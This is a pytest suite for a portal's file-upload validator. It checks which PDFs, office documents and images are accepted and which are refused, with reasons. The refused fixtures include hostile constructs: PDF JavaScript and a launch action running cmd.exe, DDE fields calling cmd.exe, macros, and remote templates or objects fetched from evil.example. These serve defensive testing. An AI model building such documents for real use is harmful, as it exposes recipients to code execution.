"""What people's programs write is taken; what carries a program or fetches one is refused, with the reason."""

import io
import zipfile

import pytest

from portal.files.contents import rules as contents
from portal.files.office import rules as office_files
from portal.files.rules import FileKind, Flaw, Unfit
from portal.files.words import FLAWS
from tests.documents import (
    PNG,
    WORD,
    jpeg,
    office,
    open_document,
    pdf,
    photo_of_a_telephone,
    relation,
    zipped,
)

CHART = {"word/charts/chart1.xml": "<c/>"}
SHEET = office("xlsx")
SCRIPTS = 'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
LISTENER = '<script:event-listener script:language="ooo:script" xlink:href="vnd.sun.star.script:a"/>'
TAKEN = {
    "a plain PDF": ("a.pdf", pdf()),
    "a PDF with a byte-order mark": ("a.pdf", b"\xef\xbb\xbf" + pdf()),
    "a PDF after an empty line": ("a.pdf", b"\r\n" + pdf()),
    "a PDF with packed objects": ("a.pdf", pdf(packed=b"<< /Title (statuts) >>")),
    "a PDF with a link and a first page": (
        "a.PDF",
        pdf(b"<< /OpenAction [3 0 R /Fit] /A << /S /URI /URI (https://ptce.example) >> >>"),
    ),
    "a form without script": ("a.pdf", pdf(b"<< /AcroForm << /Fields [] >> >>")),
    "Word": ("a.docx", office("docx")),
    "Word for the web": ("a.docx", office("docx", main="word/document2.xml")),
    "Excel": ("a.xlsx", SHEET),
    "Excel with printer settings": (
        "a.xlsx",
        office(
            "xlsx",
            {"xl/printerSettings/printerSettings1.bin": b"x"},
            relation("printerSettings", "../printerSettings/printerSettings1.bin"),
        ),
    ),
    "Excel that quotes another table": (
        "a.xlsx",
        office(
            "xlsx",
            {"xl/externalLinks/externalLink1.xml": "<externalLink><externalBook/></externalLink>"},
            relation("externalLinkPath", "file:///\\\\serveur\\commun\\budget.xlsx", outside=True),
        ),
    ),
    "PowerPoint": ("a.pptx", office("pptx", content='<p><hlinkClick action="ppaction://hlinksldjump"/></p>')),
    "Word with a web link and a chart": (
        "a.docx",
        office(
            "docx",
            {**CHART, "word/embeddings/Microsoft_Excel_Sheet.xlsx": SHEET},
            relation("hyperlink", "https://ptce.example/?a=b", outside=True),
            relation("image", "https://ptce.example/logo.png", outside=True),
            relation("package", "embeddings/Microsoft_Excel_Sheet.xlsx"),
        ),
    ),
    "Word with its template on the author's disk": (
        "a.docx",
        office(
            "docx",
            None,
            relation("attachedTemplate", "file:///C:\\Users\\Zo%C3%A9\\Rapport.dotx", outside=True),
        ),
    ),
    "Word with a table of contents": (
        "a.docx",
        office(
            "docx",
            content='<d><instrText> TOC \\o "1-3" </instrText><instrText>HYPERLINK "x"</instrText></d>',
        ),
    ),
    "LibreOffice Writer": ("a.odt", open_document("odt")),
    "LibreOffice Writer with a chart": (
        "a.odt",
        open_document("odt", {"Object 1/content.xml": "<a/>"}, '<draw:object xlink:href="./Object 1"/>'),
    ),
    "LibreOffice Calc with an empty library": (
        "a.ods",
        open_document("ods", {"Basic/script-lc.xml": "<a/>", "Basic/Standard/script-lb.xml": "<a/>"}),
    ),
    "LibreOffice Impress with a button to the next page": (
        "a.odp",
        open_document("odp", None, '<presentation:event-listener presentation:action="next-page"/>'),
    ),
    "PNG": ("logo.PNG", PNG),
    "a photograph": ("a.jpg", jpeg(b"\xff\xe1", b"Exif")),
    "a picture of Photoshop": ("a.jpeg", jpeg(b"\xff\xee", b"Adobe")),
    "a picture saved by a browser": ("a.jfif", jpeg()),
    "a scan without its usual beginning": ("a.jpg", jpeg(b"\xff\xdb", b"abcd")),
}
REFUSED = {
    "a script in a PDF": ("a.pdf", pdf(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"), Flaw.SCRIPT),
    "a script spelled in numbers": ("a.pdf", pdf(b"<< /S /J#61vaScri#70t /JS 4 0 R >>"), Flaw.SCRIPT),
    "a script among packed objects": ("a.pdf", pdf(packed=b"<< /S /JavaScript /JS 4 0 R >>"), Flaw.SCRIPT),
    "a program started by a PDF": ("a.pdf", pdf(b"<< /S /Launch /F (cmd.exe) >>"), Flaw.SCRIPT),
    "a form that sends what is typed": ("a.pdf", pdf(b"<< /S /SubmitForm >>"), Flaw.REACHES_OUT),
    "a form of another language": ("a.pdf", pdf(b"<< /XFA 7 0 R >>"), Flaw.SCRIPT),
    "a film": ("a.pdf", pdf(b"<< /Subtype/RichMedia/Rect[0 0 1 1] >>"), Flaw.SCRIPT),
    "a file in a PDF": ("a.pdf", pdf(b"<< /Type /EmbeddedFile /Length 0 >>"), Flaw.OTHER_FILE),
    "a list of files packed": ("a.pdf", pdf(packed=b"<</EmbeddedFiles 4 0 R>>"), Flaw.OTHER_FILE),
    "a password on a PDF": ("a.pdf", pdf() + b"trailer << /Encrypt 5 0 R >>", Flaw.PROTECTED),
    "objects packed in an unusual way": (
        "a.pdf",
        pdf(b"<< /Type /ObjStm /Filter /ASCIIHexDecode >>\nstream\n3c\nendstream"),
        Flaw.TOO_COMPLEX,
    ),
    "objects packed and broken": (
        "a.pdf",
        pdf(b"<< /Type /ObjStm /Filter /FlateDecode >>\nstream\nabc\nendstream"),
        Flaw.DAMAGED,
    ),
    "a page called PDF": ("a.pdf", b"<html>%PDF-1.7", Flaw.OTHER_KIND),
    "a telephone's photograph": ("a.jpg", photo_of_a_telephone(), Flaw.PHONE_PHOTO),
    "another telephone's": ("IMG_1.HEIC", photo_of_a_telephone(b"mif1"), Flaw.PHONE_PHOTO),
    "an image of the web": ("a.webp", b"RIFF\x24\x00\x00\x00WEBPVP8 " + b"\x00" * 30, Flaw.OTHER_IMAGE),
    "a picture that moves": ("a.png", b"GIF89a" + b"\x00" * 30, Flaw.OTHER_IMAGE),
    "a drawing with a script": (
        "a.png",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>',
        Flaw.OTHER_IMAGE,
    ),
    "old Word": ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, Flaw.OLD_OFFICE),
    "Word under a password": (
        "a.docx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"),
        Flaw.PROTECTED,
    ),
    "LibreOffice under a password": (
        "a.odt",
        open_document(
            "odt", manifest="<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>"
        ),
        Flaw.PROTECTED,
    ),
    "a macro of Word": (
        "a.docx",
        office("docx", {"word/vbaProject.bin": b"x"}, relation("vbaProject", "vbaProject.bin")),
        Flaw.MACROS,
    ),
    "a macro under another name": (
        "a.docx",
        office(
            "docx",
            {"word/theme.bin": b"x"},
            relation(
                "vbaProject", "theme.bin", base="http://schemas.microsoft.com/office/2006/relationships"
            ),
        ),
        Flaw.MACROS,
    ),
    "a document with macros renamed": (
        "a.docx",
        office("docx", main_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
        Flaw.MACROS,
    ),
    "a macro by its type alone": (
        "a.xlsx",
        office(
            "xlsx",
            {"xl/x.bin": b"x"},
            types='<Override PartName="/xl/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
        Flaw.MACROS,
    ),
    "a macro of Excel 4": (
        "a.xlsx",
        office("xlsx", {"xl/macrosheets/s.xml": "<a/>"}, relation("xlMacrosheet", "macrosheets/s.xml")),
        Flaw.MACROS,
    ),
    "a control": ("a.docx", office("docx", None, relation("control", "activeX/activeX1.xml")), Flaw.MACROS),
    "a button that starts a program": (
        "a.pptx",
        office("pptx", {"ppt/slides/slide1.xml": '<a><hlinkClick action="ppaction://program"/></a>'}),
        Flaw.MACROS,
    ),
    "an object": (
        "a.docx",
        office(
            "docx",
            {"word/embeddings/oleObject1.bin": b"x"},
            relation("oleObject", "embeddings/oleObject1.bin"),
        ),
        Flaw.OTHER_FILE,
    ),
    "another document's macro inside": (
        "a.pptx",
        office(
            "pptx",
            {"ppt/embeddings/t.xlsm": office("xlsx", None, relation("vbaProject", "v.bin"))},
            relation("package", "embeddings/t.xlsm"),
        ),
        Flaw.MACROS,
    ),
    "a program in place of a table": (
        "a.docx",
        office("docx", {"word/embeddings/a.xlsx": b"MZ"}, relation("package", "/word/embeddings/a.xlsx")),
        Flaw.DAMAGED,
    ),
    "a page put in": ("a.docx", office("docx", None, relation("aFChunk", "a.rtf")), Flaw.OTHER_FILE),
    "a template from the web": (
        "a.docx",
        office("docx", None, relation("attachedTemplate", "https://evil.example/a.dotm", outside=True)),
        Flaw.FROM_OUTSIDE,
    ),
    "a template from a shared folder": (
        "a.docx",
        office("docx", None, relation("attachedTemplate", "file:///\\\\evil.example\\a.dotm", outside=True)),
        Flaw.FROM_OUTSIDE,
    ),
    "an object from the web": (
        "a.docx",
        office("docx", None, relation("oleObject", "http://evil.example/a.hta", outside=True)),
        Flaw.FROM_OUTSIDE,
    ),
    "an image from a shared folder": (
        "a.docx",
        office("docx", None, relation("image", "//evil.example/a.png", outside=True)),
        Flaw.FROM_OUTSIDE,
    ),
    "an unknown thing from outside": (
        "a.docx",
        office("docx", None, relation("frame", "http://evil.example/a.doc", outside=True)),
        Flaw.FROM_OUTSIDE,
    ),
    "a field that asks a program, cut in two": (
        "a.docx",
        office("docx", content="<d><instrText> DD</instrText><instrText>EAUTO c:\\\\cmd.exe</instrText></d>"),
        Flaw.FROM_OUTSIDE,
    ),
    "a simple field that asks a program": (
        "a.docx",
        office("docx", {"word/header1.xml": '<h><fldSimple instr=" DDE cmd "/></h>'}),
        Flaw.FROM_OUTSIDE,
    ),
    "a table that asks a program": (
        "a.xlsx",
        office("xlsx", {"xl/externalLinks/externalLink1.xml": "<externalLink><ddeLink/></externalLink>"}),
        Flaw.FROM_OUTSIDE,
    ),
    "a module of Basic": ("a.odt", open_document("odt", {"Basic/Standard/Module1.xml": "<a/>"}), Flaw.MACROS),
    "a script of Python": ("a.ods", open_document("ods", {"Scripts/python/a.py": "import os"}), Flaw.MACROS),
    "what happens when it opens": ("a.odt", open_document("odt", None, LISTENER), Flaw.MACROS),
    "a script in the text": (
        "a.odt",
        open_document("odt", None, '<text:script script:language="JavaScript"/>'),
        Flaw.MACROS,
    ),
    "a slide that starts a program": (
        "a.odp",
        open_document("odp", None, '<presentation:event-listener presentation:action="execute"/>'),
        Flaw.MACROS,
    ),
    "an object of LibreOffice": ("a.odt", open_document("odt", None, "<draw:object-ole/>"), Flaw.OTHER_FILE),
    "a section from the web": (
        "a.odt",
        open_document("odt", None, '<text:section-source xlink:href="https://evil.example/a.odt"/>'),
        Flaw.FROM_OUTSIDE,
    ),
    "a frame from a shared folder": (
        "a.odt",
        open_document("odt", None, '<draw:floating-frame xlink:href="file://evil/a.odt"/>'),
        Flaw.FROM_OUTSIDE,
    ),
    "a connection to a program": (
        "a.ods",
        open_document("ods", None, "<table:dde-link/>"),
        Flaw.FROM_OUTSIDE,
    ),
    "the same in a chart": (
        "a.odt",
        open_document(
            "odt",
            {"Object 1/content.xml": f'<a xmlns:xlink="x" {SCRIPTS}>{LISTENER}</a>'},
        ),
        Flaw.MACROS,
    ),
    "an entity": (
        "a.odt",
        open_document("odt", {"meta.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
        Flaw.DAMAGED,
    ),
    "a page that is no page": ("a.docx", office("docx", {"word/styles.xml": "<a><object>"}), Flaw.DAMAGED),
    "a ZIP of anything": ("a.docx", zipped({"a.exe": b"MZ"}), Flaw.OTHER_KIND),
    "an e-book": ("a.odt", zipped({"mimetype": "application/epub+zip"}), Flaw.OTHER_KIND),
    "a template of Word": ("a.docx", office("docx", main_type=f"{WORD}.template.main+xml"), Flaw.OTHER_KIND),
    "half a document": ("a.docx", office("docx")[:-60], Flaw.DAMAGED),
    "a part of one name twice": (
        "a.docx",
        office("docx", {"word/a.xml": "<a/>", "word/A.xml": "<a/>"}),
        Flaw.DAMAGED,
    ),
    "a program": ("a.pdf", b"MZ" + b"\x00" * 64, Flaw.OTHER_KIND),
    "a text": ("a.txt", b"bonjour", Flaw.OTHER_KIND),
    "nothing": ("a.odt", b"", Flaw.OTHER_KIND),
}


@pytest.mark.parametrize("what", TAKEN)
def test_what_programs_write_is_taken(what: str) -> None:
    name, content = TAKEN[what]
    kept, kind = contents.named(name, content)
    assert kept == name
    assert contents.ENDINGS[name.rpartition(".")[2].lower()] is kind


@pytest.mark.parametrize("what", REFUSED)
def test_what_carries_or_fetches_a_program_is_refused_and_why(what: str) -> None:
    name, content, flaw = REFUSED[what]
    with pytest.raises(Unfit) as refused:
        contents.named(name, content)
    assert refused.value.flaw is flaw


def test_every_reason_is_tried_and_has_its_sentence() -> None:
    """A name that differs says the kind: it has a sentence of its own."""
    assert {flaw for _, _, flaw in REFUSED.values()} == FLAWS.keys()
    assert FLAWS.keys() | {Flaw.OTHER_NAME} == set(Flaw)


@pytest.mark.parametrize(
    ("name", "content", "actual"),
    [
        ("a.jpg", pdf(), FileKind.PDF),
        ("a.pdf", PNG, FileKind.PNG),
        ("photo.png", jpeg(), FileKind.JPEG),
        ("a.odt", office("docx"), FileKind.DOCX),
        ("a.docm", office("docx"), FileKind.DOCX),
        ("a.xlsx", open_document("ods"), FileKind.ODS),
    ],
)
def test_a_name_that_says_another_kind_is_told_the_right_one(
    name: str, content: bytes, actual: FileKind
) -> None:
    with pytest.raises(Unfit) as refused:
        contents.named(name, content)
    assert refused.value.flaw is Flaw.OTHER_NAME
    assert refused.value.actual is actual


@pytest.mark.parametrize(("name", "kept"), [("statuts", "statuts.pdf"), ("n" * 120, "n" * 115 + ".pdf")])
def test_a_name_without_ending_gets_the_one_of_its_content(name: str, kept: str) -> None:
    assert contents.named(name, pdf()) == (kept, FileKind.PDF)


@pytest.mark.parametrize("packed", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_what_cannot_be_unpacked_a_little_is_not_unpacked(packed: int) -> None:
    """A few bytes of those would fill the memory."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        archive.writestr("mimetype", contents.MEDIA_TYPES[FileKind.ODT], compress_type=packed)
    with pytest.raises(Unfit, match=Flaw.DAMAGED):
        contents.named("a.odt", content.getvalue())


def test_a_list_of_parts_without_end_is_not_read() -> None:
    """All of them fit in a file that may be sent; a long document is still taken."""
    some = {f"word/media/{number}.png": b"" for number in range(1_000)}
    many = {f"word/media/{number}.png": b"" for number in range(10_001)}
    assert contents.named("a.docx", office("docx", some))[1] is FileKind.DOCX
    with pytest.raises(Unfit, match=Flaw.TOO_COMPLEX):
        contents.named("a.docx", office("docx", many))


@pytest.mark.parametrize("kind", ["docx", "odt", "pdf"])
def test_what_unpacks_without_end_is_not_unpacked(kind: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(office_files, "_MOST_READ", 100_000)
    monkeypatch.setattr(contents, "_MOST_UNPACKED", 100_000)
    spaces = b"<a>" + b" " * 110_000
    content = {
        "docx": lambda: office("docx", {"word/big.xml": spaces}),
        "odt": lambda: open_document("odt", {"styles.xml": spaces}),
        "pdf": lambda: pdf(packed=spaces),
    }[kind]()
    assert len(content) < 10_000
    with pytest.raises(Unfit, match=Flaw.TOO_COMPLEX):
        contents.named(f"a.{kind}", content)
